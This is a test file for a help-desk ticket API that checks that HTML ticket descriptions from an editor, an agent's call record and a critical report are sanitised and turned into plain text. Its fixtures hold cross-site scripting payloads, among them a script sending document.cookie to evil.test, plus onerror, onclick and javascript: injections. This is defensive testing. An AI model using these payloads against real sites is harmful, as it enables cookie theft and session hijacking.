import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Person } from '../people/person.entity.js';
import { TestApp, type GqlResponse } from '../test-support/test-app.js';
import { Ticket } from './ticket.entity.js';

// Sara (Kävlinge employee), Omar (Kävlinge agent), Nils (Porsgrunn employee, for critical reports).
const SARA = 'JOSA9804';
const OMAR = 'SAOR9112';
const NILS = 'HANI9107';

const FIELDS = 'id title description descriptionHtml';
const CREATE = `mutation($input: CreateTicketInput!) { createTicket(input: $input) { ${FIELDS} } }`;
const RECORD = `mutation($input: RecordTicketForCallerInput!) { recordTicketForCaller(input: $input) { ${FIELDS} } }`;
const REPORT = `mutation($input: ReportCriticalInput!) { reportCritical(input: $input) { ticketId } }`;
const TICKET = `query($id: ID!) { ticket(id: $id) { ${FIELDS} } }`;
const SEARCH = `query($text: String!) { searchTickets(text: $text) { ${FIELDS} } }`;

interface T {
  id: string;
  title: string;
  description: string;
  descriptionHtml: string;
}

const REL = 'rel="noopener noreferrer nofollow" target="_blank"';

/** What an editor might send, with what no editor sends mixed in. */
const DIRTY =
  '<p onclick="steal()">Tangentbordet <strong>svarar inte</strong> efter <em>uppdateringen</em>.</p>' +
  '<script>fetch("https://evil.test/?c=" + document.cookie)</script>' +
  '<ul><li><p>Startat om</p></li><li><p>Bytt <a href="javascript:alert(1)">USB-port</a></p></li></ul>' +
  '<p style="position:fixed"><img src=x onerror="alert(1)">Se <a href="https://support.example.org/kb/42">artikeln</a></p>' +
  '<iframe src="https://evil.test"></iframe>';

const CLEAN =
  '<p>Tangentbordet <strong>svarar inte</strong> efter <em>uppdateringen</em>.</p>' +
  '<ul><li><p>Startat om</p></li><li><p>Bytt USB-port</p></li></ul>' +
  `<p>Se <a href="https://support.example.org/kb/42" ${REL}>artikeln</a></p>`;

const PLAIN =
  'Tangentbordet svarar inte efter uppdateringen.\n\n- Startat om\n- Bytt USB-port\n\nSe artikeln';

function problems(res: GqlResponse): { field: string; code: string }[] {
  return (res.errors?.[0]?.extensions?.fields ?? []) as { field: string; code: string }[];
}

describe.each(['sqlite', 'postgresql'] as const)('rich text descriptions on %s', (database) => {
  let app: TestApp;
  const cookie: Record<string, string> = {};
  const id: Record<string, string> = {};

  beforeAll(async () => {
    app = await TestApp.start({ database, now: '2026-11-28T18:40:00Z' });
    for (const u of [SARA, OMAR, NILS]) {
      cookie[u] = await app.signIn(u);
      id[u] = (await app.em().findOneOrFail(Person, { username: u }, { filters: false })).id;
    }
  }, 120_000);
  afterAll(() => app?.stop());

  const ticketCount = () => app.em().count(Ticket, {}, { filters: false });
  const stored = (ticketId: string) =>
    app.em().findOneOrFail(Ticket, { id: ticketId }, { filters: false });

  it('stores and returns the sanitised HTML, derives the plain text from it and finds it in search', async () => {
    const res = await app.gql<{ createTicket: T }>(
      CREATE,
      {
        input: {
          title: 'Tangentbord',
          description: 'this plain text is ignored',
          descriptionHtml: DIRTY,
        },
      },
      cookie[SARA],
    );
    expect(res.errors).toBeUndefined();
    const t = res.data!.createTicket;
    expect(t.descriptionHtml).toBe(CLEAN);
    expect(t.description).toBe(PLAIN);
    const row = await stored(t.id);
    expect(row.descriptionHtml).toBe(CLEAN);
    expect(row.description).toBe(PLAIN);

    const read = await app.gql<{ ticket: T }>(TICKET, { id: t.id }, cookie[SARA]);
    expect(read.data!.ticket).toEqual(t);

    const found = await app.gql<{ searchTickets: T[] }>(
      SEARCH,
      { text: 'tangentbordet' },
      cookie[OMAR],
    );
    expect(found.errors).toBeUndefined();
    expect(found.data!.searchTickets).toContainEqual(t);
    const ignored = await app.gql<{ searchTickets: T[] }>(
      SEARCH,
      { text: 'ignored' },
      cookie[OMAR],
    );
    expect(ignored.data!.searchTickets.map((x) => x.id)).not.toContain(t.id);
  });

  it('refuses HTML over 100 000 characters with BAD_USER_INPUT and stores nothing', async () => {
    const before = await ticketCount();
    const res = await app.gql(
      CREATE,
      { input: { title: 'Huge', descriptionHtml: `<p>${'<b>x</b>'.repeat(12_500)}</p>` } },
      cookie[SARA],
    );
    expect(res.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(problems(res)).toEqual([
      expect.objectContaining({ field: 'descriptionHtml', code: 'TOO_LONG' }),
    ]);
    expect(await ticketCount()).toBe(before);
  });

  it('holds the derived text to the description’s own length rule', async () => {
    const before = await ticketCount();
    const res = await app.gql(
      CREATE,
      { input: { title: 'Long', descriptionHtml: `<p>${'y'.repeat(20_001)}</p>` } },
      cookie[SARA],
    );
    expect(res.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(problems(res)).toEqual([
      expect.objectContaining({ field: 'description', code: 'TOO_LONG' }),
    ]);
    expect(await ticketCount()).toBe(before);
  });

  it('returns a plain text description as escaped HTML and stores no HTML for it', async () => {
    const res = await app.gql<{ createTicket: T }>(
      CREATE,
      {
        input: {
          title: 'Plain',
          description: '<img src=x onerror=alert(1)> & <b>not bold</b>\nnext line\n\nsecond',
        },
      },
      cookie[SARA],
    );
    expect(res.errors).toBeUndefined();
    const t = res.data!.createTicket;
    expect(t.descriptionHtml).toBe(
      '<p>&lt;img src=x onerror=alert(1)&gt; &amp; &lt;b&gt;not bold&lt;/b&gt;<br />next line</p><p>second</p>',
    );
    expect((await stored(t.id)).descriptionHtml).toBeNull();
  });

  it('keeps an empty editor empty', async () => {
    const res = await app.gql<{ createTicket: T }>(
      CREATE,
      { input: { title: 'Empty', descriptionHtml: '<p></p>' } },
      cookie[SARA],
    );
    expect(res.data!.createTicket).toMatchObject({ description: '', descriptionHtml: '' });
    expect((await stored(res.data!.createTicket.id)).descriptionHtml).toBeNull();
  });

  it('sanitises what an agent records for a caller', async () => {
    const res = await app.gql<{ recordTicketForCaller: T }>(
      RECORD,
      {
        input: {
          callerId: id[SARA],
          channel: 'PHONE',
          title: 'Phoned about the keyboard',
          descriptionHtml: DIRTY,
        },
      },
      cookie[OMAR],
    );
    expect(res.errors).toBeUndefined();
    expect(res.data!.recordTicketForCaller).toMatchObject({
      description: PLAIN,
      descriptionHtml: CLEAN,
    });
    expect((await stored(res.data!.recordTicketForCaller.id)).descriptionHtml).toBe(CLEAN);
  });

  it('sanitises a critical report', async () => {
    const res = await app.gql<{ reportCritical: { ticketId: string } }>(
      REPORT,
      {
        input: {
          title: 'Medication robot stopped',
          descriptionHtml: DIRTY,
          definitionCode: 'DANGER_TO_LIFE_OR_HEALTH',
        },
      },
      cookie[NILS],
    );
    expect(res.errors).toBeUndefined();
    const row = await stored(res.data!.reportCritical.ticketId);
    expect(row.descriptionHtml).toBe(CLEAN);
    expect(row.description).toBe(PLAIN);
  });
});
